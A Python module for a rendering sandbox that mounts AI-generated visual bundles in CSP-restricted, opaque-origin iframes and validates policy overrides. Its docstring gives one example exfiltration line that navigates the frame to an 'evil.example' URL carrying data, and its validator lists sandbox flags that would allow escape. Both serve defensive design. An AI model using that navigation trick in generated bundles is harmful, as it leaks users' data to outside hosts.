"""Rendering sandbox: isolated surfaces for AI-generated visual bundles.

A bundle (markup, style, script, data) is mounted into a self-contained
``srcdoc`` document displayed by a sandboxed iframe. The surface gets an
opaque origin (``allow-same-origin`` is never granted by default), a
Content-Security-Policy that only admits the allowed library URLs and
blocks fetch, XHR, image, font and frame loads, and a one-way ``postMessage`` channel that
reports ``ready``, ``error`` and ``csp-violation`` events to the host.

Residual egress: the surface can still navigate its own frame (for example
``location.href = "https://evil.example/?" + data``). Browsers dropped the
``navigate-to`` directive, so no CSP blocks it. What is contained is the top
level: ``allow-top-navigation*`` is never granted, so the host page itself
cannot be redirected. Do not hand a surface data that must not leave the
host.

Policy overrides are validated by the caller layer (see
``snippet_sandbox.protocol``) with :func:`validate_override`; the surface
itself only merges them over the defaults.
"""

from __future__ import annotations

import html
import json
import uuid
from collections.abc import Iterable, Mapping
from typing import Any
from urllib.parse import urlsplit

from snippet_sandbox.config import DEFAULT_CONFIG, EngineConfig
from snippet_sandbox.core.errors import PolicyValidationError
from snippet_sandbox.core.logging import SandboxLogger
from snippet_sandbox.core.models import PolicyOverride, SandboxPolicy, VisualBundle

DEFAULT_ALLOWED_ORIGINS: tuple[str, ...] = tuple(DEFAULT_CONFIG["render_allowed_origins"])
DEFAULT_SANDBOX_FLAGS: tuple[str, ...] = tuple(DEFAULT_CONFIG["render_sandbox_flags"])

KNOWN_SANDBOX_FLAGS = frozenset({
    "allow-downloads",
    "allow-forms",
    "allow-modals",
    "allow-orientation-lock",
    "allow-pointer-lock",
    "allow-popups",
    "allow-popups-to-escape-sandbox",
    "allow-presentation",
    "allow-same-origin",
    "allow-scripts",
    "allow-storage-access-by-user-activation",
    "allow-top-navigation",
    "allow-top-navigation-by-user-activation",
    "allow-top-navigation-to-custom-protocols",
})

# Directives that fall back to default-src when absent
FETCH_DIRECTIVES = frozenset({
    "script-src",
    "style-src",
    "img-src",
    "connect-src",
    "font-src",
    "frame-src",
    "media-src",
    "object-src",
    "worker-src",
    "child-src",
    "manifest-src",
})

MESSAGE_SOURCE = "snippet-sandbox"
EVENT_READY = "ready"
EVENT_ERROR = "error"
EVENT_CSP_VIOLATION = "csp-violation"

_BASE_STYLE = """\
* { margin: 0; padding: 0; box-sizing: border-box; }
body { font-family: system-ui, -apple-system, sans-serif; background: white; overflow: hidden; }
#viz-container { width: 100vw; height: 100vh; position: relative; }"""

_DEFAULT_MARKUP = '<div id="viz-container"></div>'


def build_csp(allowed_origins: Iterable[str]) -> str:
    """Build the surface CSP admitting scripts only from ``allowed_origins``."""
    script_sources = " ".join(["'unsafe-inline'", *allowed_origins])
    return "; ".join([
        "default-src 'none'",
        f"script-src {script_sources}",
        "style-src 'self' 'unsafe-inline'",
        "img-src 'self' data:",
        "connect-src 'none'",
        "font-src 'none'",
        "frame-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
    ])


def default_policy(config: EngineConfig | None = None) -> SandboxPolicy:
    """Return the default policy, taken from ``config`` when given."""
    if config is None:
        origins, flags = DEFAULT_ALLOWED_ORIGINS, DEFAULT_SANDBOX_FLAGS
    else:
        origins = tuple(config.render_allowed_origins)
        flags = tuple(config.render_sandbox_flags)
    return SandboxPolicy(allowed_origins=origins, sandbox_flags=flags, csp=build_csp(origins))


def resolve_policy(
    override: PolicyOverride | None = None,
    defaults: SandboxPolicy | None = None,
) -> SandboxPolicy:
    """Merge ``override`` field-wise over ``defaults``.

    An override that replaces the allowed origins without supplying its own
    CSP gets a CSP regenerated from the new origins, so the script allowlist
    and the library tags never disagree.
    """
    defaults = defaults or default_policy()
    if override is None:
        return defaults

    origins = override.allowed_origins if override.allowed_origins is not None else defaults.allowed_origins
    flags = override.sandbox_flags if override.sandbox_flags is not None else defaults.sandbox_flags
    if override.csp is not None:
        csp = override.csp
    elif override.allowed_origins is not None:
        csp = build_csp(origins)
    else:
        csp = defaults.csp

    return SandboxPolicy(allowed_origins=origins, sandbox_flags=flags, csp=csp)


def validate_override(override: PolicyOverride) -> PolicyOverride:
    """Reject overrides that would widen the surface beyond its contract.

    Raises:
        PolicyValidationError: If an origin is not an absolute https URL, a
            flag is unknown or grants navigation/same-origin scripting, or
            the CSP lacks a default-src directive
    """
    for origin in override.allowed_origins or ():
        _validate_origin(origin)

    if override.sandbox_flags is not None:
        flags = set(override.sandbox_flags)
        unknown = sorted(flags - KNOWN_SANDBOX_FLAGS)
        if unknown:
            raise PolicyValidationError(f"Unknown sandbox flags: {', '.join(unknown)}")
        navigation = sorted(f for f in flags if f.startswith("allow-top-navigation"))
        if navigation:
            raise PolicyValidationError(f"Top-level navigation is not allowed: {', '.join(navigation)}")
        if {"allow-scripts", "allow-same-origin"} <= flags:
            raise PolicyValidationError(
                "allow-scripts combined with allow-same-origin would let the bundle escape its sandbox"
            )

    if override.csp is not None:
        if any(c in override.csp for c in "\r\n"):
            raise PolicyValidationError("CSP must be a single line")
        if "default-src" not in parse_csp(override.csp):
            raise PolicyValidationError("CSP must contain a default-src directive")

    return override


def _validate_origin(origin: str) -> None:
    if not origin or any(c.isspace() or c in "'\";,<>" for c in origin):
        raise PolicyValidationError(f"Invalid allowed origin: {origin!r}")
    parts = urlsplit(origin)
    if parts.scheme != "https" or not parts.hostname:
        raise PolicyValidationError(f"Allowed origins must be absolute https URLs: {origin!r}")
    if parts.username is not None or parts.password is not None:
        raise PolicyValidationError(f"Allowed origins must not carry credentials: {origin!r}")
    if "*" in parts.netloc:
        raise PolicyValidationError(f"Wildcard hosts are not allowed: {origin!r}")


def parse_csp(csp: str) -> dict[str, list[str]]:
    """Split a policy into ``{directive: [sources]}``; first occurrence wins."""
    directives: dict[str, list[str]] = {}
    for chunk in csp.split(";"):
        tokens = chunk.split()
        if not tokens:
            continue
        name = tokens[0].lower()
        directives.setdefault(name, tokens[1:])
    return directives


def csp_allows(csp: str, directive: str, url: str) -> bool:
    """Return True if ``url`` may be loaded under ``directive`` of ``csp``.

    Minimal CSP source-list matcher used for host-side verification: it
    understands ``'none'``, ``*``, scheme sources, host sources (optionally
    with a ``*.`` subdomain wildcard or a path) and falls back to
    ``default-src`` for fetch directives. Keyword sources such as ``'self'``
    never match because surfaces run with an opaque origin.
    """
    directives = parse_csp(csp)
    directive = directive.lower()
    sources = directives.get(directive)
    if sources is None and directive in FETCH_DIRECTIVES:
        sources = directives.get("default-src")
    if sources is None:
        return True

    target = urlsplit(url)
    return any(_source_matches(source, target) for source in sources)


def _source_matches(source: str, target: Any) -> bool:
    if source.startswith("'"):
        return False
    if source == "*":
        return target.scheme in ("http", "https")
    if source.endswith(":") and "/" not in source:
        return target.scheme == source[:-1].lower()

    if "://" not in source:
        source = f"{target.scheme}://{source}"
    expected = urlsplit(source)
    if expected.scheme.lower() != target.scheme:
        return False

    host = (expected.hostname or "").lower()
    target_host = (target.hostname or "").lower()
    if host.startswith("*."):
        if not target_host.endswith(host[1:]):
            return False
    elif host != target_host:
        return False

    if expected.port is not None and expected.port != target.port:
        return False

    path = expected.path
    if not path or path == "/":
        return True
    if path.endswith("/"):
        return target.path.startswith(path)
    return target.path == path


def _serialize_data(data: Any) -> str | None:
    try:
        encoded = json.dumps(data, allow_nan=False)
    except (TypeError, ValueError):
        return None
    # Keep the payload from closing the inline script element
    return encoded.replace("<", "\\u003C")


_REPORTER_SCRIPT = """\
(function () {{
  var mountId = {mount_id};
  function report(type, detail) {{
    var message = {{ source: {source}, type: type, mountId: mountId }};
    for (var key in detail) message[key] = detail[key];
    window.parent.postMessage(message, "*");
  }}
  window.__reportSandboxEvent = report;
  document.addEventListener("securitypolicyviolation", function (e) {{
    report({csp_event}, {{ blockedURI: e.blockedURI, violatedDirective: e.violatedDirective }});
  }});
  window.addEventListener("error", function (e) {{
    report({error_event}, {{ error: e.message || "Unknown error" }});
  }});
}})();"""

_BUNDLE_SCRIPT = """\
window.vizData = {data};
try {{
{js}
}} catch (e) {{
  window.__reportSandboxEvent({error_event}, {{ error: (e && e.message) || String(e) }});
}}
window.__reportSandboxEvent({ready_event}, {{}});"""


def build_document(bundle: VisualBundle, policy: SandboxPolicy, mount_id: str) -> str:
    """Render the complete srcdoc HTML for ``bundle`` under ``policy``.

    Raises:
        PolicyValidationError: If the bundle data cannot be serialized
    """
    data = _serialize_data(bundle.data)
    if data is None:
        raise PolicyValidationError("Visual bundle data is not JSON-serializable")

    library_tags = "\n".join(
        f'<script src="{html.escape(src, quote=True)}"></script>' for src in policy.allowed_origins
    )
    reporter = _REPORTER_SCRIPT.format(
        mount_id=json.dumps(mount_id),
        source=json.dumps(MESSAGE_SOURCE),
        csp_event=json.dumps(EVENT_CSP_VIOLATION),
        error_event=json.dumps(EVENT_ERROR),
    )
    bundle_script = _BUNDLE_SCRIPT.format(
        data=data,
        js=bundle.js.replace("</script", "<\\/script"),
        error_event=json.dumps(EVENT_ERROR),
        ready_event=json.dumps(EVENT_READY),
    )
    css = (bundle.css or "").replace("</style", "<\\/style")

    return "\n".join([
        "<!DOCTYPE html>",
        "<html>",
        "<head>",
        f'<meta http-equiv="Content-Security-Policy" content="{html.escape(policy.csp, quote=True)}">',
        '<meta charset="utf-8">',
        '<meta name="viewport" content="width=device-width, initial-scale=1">',
        f"<script>\n{reporter}\n</script>",
        library_tags,
        f"<style>\n{_BASE_STYLE}\n{css}\n</style>",
        "</head>",
        "<body>",
        bundle.html or _DEFAULT_MARKUP,
        f"<script>\n{bundle_script}\n</script>",
        "</body>",
        "</html>",
    ])


class SandboxHandle:
    """A mounted rendering surface.

    Attributes:
        mount_id: Identifier carried by every event the surface posts
        policy: Effective SandboxPolicy, fixed for the life of the surface
        document: srcdoc HTML of the surface
        status: "pending" until the surface reports ready or error
        errors: Error messages reported by the surface
        violations: CSP violations reported by the surface
    """

    def __init__(self, mount_id: str, policy: SandboxPolicy, document: str, logger: SandboxLogger) -> None:
        self.mount_id = mount_id
        self.policy = policy
        self.document = document
        self.logger = logger
        self.status = "pending"
        self.errors: list[str] = []
        self.violations: list[dict[str, str]] = []

    @property
    def headers(self) -> dict[str, str]:
        """Response headers for serving the document from a separate origin."""
        return {
            "Content-Security-Policy": self.policy.csp,
            "Content-Type": "text/html; charset=utf-8",
            "Referrer-Policy": "no-referrer",
            "X-Content-Type-Options": "nosniff",
        }

    def iframe_html(self, title: str = "Visualization") -> str:
        """Return the iframe element that displays the surface."""
        return (
            f'<iframe sandbox="{html.escape(" ".join(self.policy.sandbox_flags), quote=True)}"'
            f' srcdoc="{html.escape(self.document, quote=True)}"'
            f' title="{html.escape(title, quote=True)}"'
            ' referrerpolicy="no-referrer" loading="lazy"></iframe>'
        )

    def handle_message(self, message: Any) -> bool:
        """Record an event posted by the surface.

        Messages from other surfaces or with unknown types are ignored.
        Nothing is ever sent back to the bundle.

        Returns:
            True if the message belonged to this surface and was recorded
        """
        if not isinstance(message, Mapping):
            return False
        if message.get("source") != MESSAGE_SOURCE or message.get("mountId") != self.mount_id:
            return False

        kind = message.get("type")
        if kind == EVENT_READY:
            if self.status == "pending":
                self.status = "ready"
            return True
        if kind == EVENT_ERROR:
            self.status = "error"
            self.errors.append(str(message.get("error") or "Unknown error"))
            return True
        if kind == EVENT_CSP_VIOLATION:
            violation = {
                "blocked_uri": str(message.get("blockedURI", "")),
                "violated_directive": str(message.get("violatedDirective", "")),
            }
            self.violations.append(violation)
            self.logger.log_security_event(
                "csp_violation", {"mount_id": self.mount_id, **violation}
            )
            return True
        return False

    def describe(self) -> dict[str, Any]:
        """Serializable description of the surface for transports."""
        return {
            "mountId": self.mount_id,
            "document": self.document,
            "iframe": self.iframe_html(),
            "headers": self.headers,
            "policy": self.policy.model_dump(mode="json", by_alias=True),
        }


class RenderingSandbox:
    """Mounts visual bundles with a default policy taken from EngineConfig."""

    def __init__(self, config: EngineConfig | None = None, logger: SandboxLogger | None = None) -> None:
        self.config = config or EngineConfig()
        self.logger = logger or SandboxLogger()
        self.defaults = default_policy(self.config)

    def mount(self, bundle: VisualBundle, policy_override: PolicyOverride | None = None) -> SandboxHandle:
        """Create a surface for ``bundle`` under the merged policy."""
        policy = resolve_policy(policy_override, self.defaults)
        mount_id = uuid.uuid4().hex
        document = build_document(bundle, policy, mount_id)
        self.logger.log_render_mounted(mount_id, policy, len(document.encode("utf-8")))
        return SandboxHandle(mount_id, policy, document, self.logger)


def mount(bundle: VisualBundle, policy_override: PolicyOverride | None = None) -> SandboxHandle:
    """Mount ``bundle`` with the default configuration."""
    return RenderingSandbox().mount(bundle, policy_override)
